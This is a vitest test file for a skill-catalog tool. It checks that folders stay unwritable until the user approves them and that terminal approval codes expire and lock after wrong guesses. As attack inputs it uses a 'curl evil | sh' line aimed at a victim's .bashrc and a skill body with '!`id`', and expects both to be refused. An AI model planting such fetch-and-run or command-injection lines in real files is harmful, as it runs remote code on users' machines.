/**
 * A new root becomes writable only by the user's own action. A client holding
 * the API can point the catalog anywhere (project.open, catalog.configure) to
 * read it, but nothing there is written until the user approves the folder:
 * a native dialog pick or box (Electron), or a code printed in the web host's
 * terminal and typed into the page.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createDispatch, createHandlers } from '../../src/node/handlers/index';
import { terminalCodes } from '../../src/webhost/writeCodes';
import type { CatalogSnapshot } from '../../src/shared/ipc/contract';
import { cleanupTemp, fixture, tempDir, writeSkill } from './helpers';

afterEach(() => cleanupTemp());

/** Another project with one skill, and a victim folder holding a file that must never change. */
function elsewhere() {
  const other = tempDir('other');
  const skill = writeSkill(path.join(other, '.claude', 'skills'), 'theirs', 'Not yours');
  const victim = tempDir('victim');
  fs.writeFileSync(path.join(victim, '.bashrc'), 'keep me\n');
  return { other, skill, victim };
}

describe('write approvals', () => {
  it('project.open of a folder the user did not approve: listed and readable, nothing writable', async () => {
    const f = await fixture();
    const e = elsewhere();
    const dispatch = createDispatch(createHandlers(f.ctx));
    const snap = await dispatch('project.open', { path: e.other }) as CatalogSnapshot;
    expect(snap.catalog.skills.map((s) => s.id)).toContain('theirs');
    // The user's own roots (home, approved at start) stay writable; none of the opened folder's.
    expect(snap.writableRoots.length).toBeGreaterThan(0);
    expect(snap.writableRoots.every((r) => r.path.startsWith(`${f.home}/`))).toBe(true);
    expect(snap.unapprovedFolders).toEqual([e.other]);
    await expect(dispatch('file.read', { path: e.skill })).resolves.toMatchObject({ exists: true });
    const before = fs.readFileSync(e.skill, 'utf8');
    await expect(dispatch('file.save', { path: e.skill, text: 'pwned' })).rejects.toMatchObject({ code: 'not-approved', status: 403 });
    await expect(dispatch('skill.create', { root: path.join(e.other, '.claude', 'skills'), name: 'planted', text: '!`id`' })).rejects.toMatchObject({ code: 'not-approved' });
    await expect(dispatch('skill.rename', { dir: path.dirname(e.skill), newName: 'moved' })).rejects.toMatchObject({ status: 403 });
    await expect(dispatch('skill.duplicate', { dir: path.dirname(e.skill), newName: 'copy' })).rejects.toMatchObject({ status: 403 });
    await expect(dispatch('skill.delete', { dir: path.dirname(e.skill) })).rejects.toMatchObject({ status: 403 });
    expect(fs.readFileSync(e.skill, 'utf8')).toBe(before);
    expect(fs.readdirSync(path.join(e.other, '.claude', 'skills'))).toEqual(['theirs']);
    // Nor is it a recent project (the web host opens the last one at start without asking).
    expect(f.ctx.stores.settings.get().recentProjects).not.toContain(e.other);
  });

  it('catalog.configure cannot make any folder writable (--skills-dir /home/user, --add-dir, --plugin, home, project)', async () => {
    const f = await fixture();
    const e = elsewhere();
    const dispatch = createDispatch(createHandlers(f.ctx));
    for (const roots of [{ skillsDirs: [e.victim] }, { addDirs: [e.victim] }, { plugins: [e.victim] }, { home: e.victim }, { project: e.victim, cwd: e.victim }]) {
      const snap = await dispatch('catalog.configure', { roots }) as CatalogSnapshot;
      expect(snap.writableRoots.some((r) => r.path.startsWith(e.victim))).toBe(false);
      await expect(dispatch('file.save', { path: path.join(e.victim, '.bashrc'), text: 'curl evil | sh\n' })).rejects.toMatchObject({ status: 403 });
      await expect(dispatch('file.save', { path: path.join(e.victim, '.claude', 'skills', 'x', 'SKILL.md'), text: 'x' })).rejects.toMatchObject({ status: 403 });
      await expect(dispatch('file.save', { path: path.join(e.victim, 'skills', 'x', 'SKILL.md'), text: 'x' })).rejects.toMatchObject({ status: 403 });
    }
    expect(fs.readdirSync(e.victim)).toEqual(['.bashrc']);
    expect(fs.readFileSync(path.join(e.victim, '.bashrc'), 'utf8')).toBe('keep me\n');
    // The folders of the start stay writable.
    await dispatch('catalog.configure', { roots: { project: f.project, cwd: f.project, home: f.home, skillsDirs: [], addDirs: [], plugins: [] } });
    await expect(dispatch('skill.create', { root: f.skills, name: 'mine', text: 'x' })).resolves.toMatchObject({ path: path.join(f.skills, 'mine', 'SKILL.md') });
  });

  it('the user\'s approval makes it writable: the host\'s confirmation, only for the folder asked about', async () => {
    const e = elsewhere();
    const asked: [string, string | undefined][] = [];
    const f = await fixture({ confirmWrites: async (dir, code) => { asked.push([dir, code]); return code === 'right' ? { approved: true } : { approved: false, needsCode: true }; } });
    const dispatch = createDispatch(createHandlers(f.ctx));
    await dispatch('project.open', { path: e.other });
    expect(await dispatch('project.allowWrites', { path: e.other })).toEqual({ approved: false, needsCode: true });
    expect(await dispatch('project.allowWrites', { path: e.other, code: 'wrong' })).toMatchObject({ approved: false });
    await expect(dispatch('file.save', { path: e.skill, text: 'mine' })).rejects.toMatchObject({ code: 'not-approved' });
    // Only configured folders can be asked about (no approving of /, of a parent, of a random folder).
    await expect(dispatch('project.allowWrites', { path: e.victim, code: 'right' })).rejects.toMatchObject({ code: 'not-configured' });
    const ok = await dispatch('project.allowWrites', { path: e.other, code: 'right' }) as { approved: boolean; snapshot: CatalogSnapshot };
    expect(ok.approved).toBe(true);
    expect(ok.snapshot.writableRoots.map((r) => r.path)).toContain(path.join(e.other, '.claude', 'skills'));
    expect(ok.snapshot.unapprovedFolders).toEqual([]);
    await expect(dispatch('file.save', { path: e.skill, text: 'mine\n' })).resolves.toMatchObject({ ok: true });
    expect(f.ctx.stores.settings.get().recentProjects[0]).toBe(e.other);
    expect(asked).toEqual([[e.other, undefined], [e.other, 'wrong'], [e.other, 'right']]);
  });

  it('a folder picked in the native dialog (Electron) is the user\'s own choice: writable at once', async () => {
    const e = elsewhere();
    const f = await fixture({ pickFolder: async () => e.other });
    const dispatch = createDispatch(createHandlers(f.ctx));
    expect(await dispatch('project.pickFolder', {})).toEqual({ path: e.other });
    const snap = await dispatch('project.open', { path: e.other }) as CatalogSnapshot;
    expect(snap.unapprovedFolders).toEqual([]);
    await expect(dispatch('skill.create', { root: path.join(e.other, '.claude', 'skills'), name: 'new-one', text: 'x' })).resolves.toBeTruthy();
  });
});

describe('web host approval codes (printed in the terminal only)', () => {
  const setup = () => {
    const lines: string[] = [];
    let t = 1_000_000;
    const confirm = terminalCodes((l) => lines.push(l), () => t);
    const code = () => /code in the page: (\S+)$/.exec(lines.at(-1) ?? '')?.[1] ?? '';
    return { lines, confirm, code, advance: (ms: number) => { t += ms; } };
  };

  it('prints a code for the folder; the right code (any case, with or without the dash) approves once', async () => {
    const s = setup();
    expect(await s.confirm('/p')).toEqual({ approved: false, needsCode: true });
    expect(s.lines).toHaveLength(1);
    expect(s.lines[0]).toMatch(/to allow saving in \/p, type this code in the page: [A-Z2-9]{4}-[A-Z2-9]{4}$/);
    const c = s.code();
    expect(await s.confirm('/other', c)).toMatchObject({ approved: false });
    expect(await s.confirm('/p', ` ${c.replace('-', '').toLowerCase()} `)).toEqual({ approved: true });
    expect(await s.confirm('/p', c)).toMatchObject({ approved: false }); // used up
  });

  it('5 wrong tries void a code, codes expire after 10 minutes, 20 wrong codes lock approvals for the run', async () => {
    const s = setup();
    await s.confirm('/p');
    const c = s.code();
    for (let i = 0; i < 4; i++) expect(await s.confirm('/p', 'AAAA-AAAA')).toMatchObject({ approved: false, needsCode: true });
    expect(await s.confirm('/p', 'AAAA-AAAA')).toMatchObject({ approved: false, message: expect.stringMatching(/no tries left/) });
    expect(await s.confirm('/p', c)).toMatchObject({ approved: false });
    await s.confirm('/p');
    s.advance(10 * 60_000 + 1);
    expect(await s.confirm('/p', s.code())).toMatchObject({ approved: false, message: expect.stringMatching(/expired/) });
    for (let n = 0; n < 3; n++) { await s.confirm('/p'); for (let i = 0; i < 5; i++) await s.confirm('/p', 'BBBB-BBBB'); }
    await s.confirm('/p');
    expect(await s.confirm('/p', s.code())).toMatchObject({ approved: false, message: expect.stringMatching(/too many wrong codes/) });
  });
});
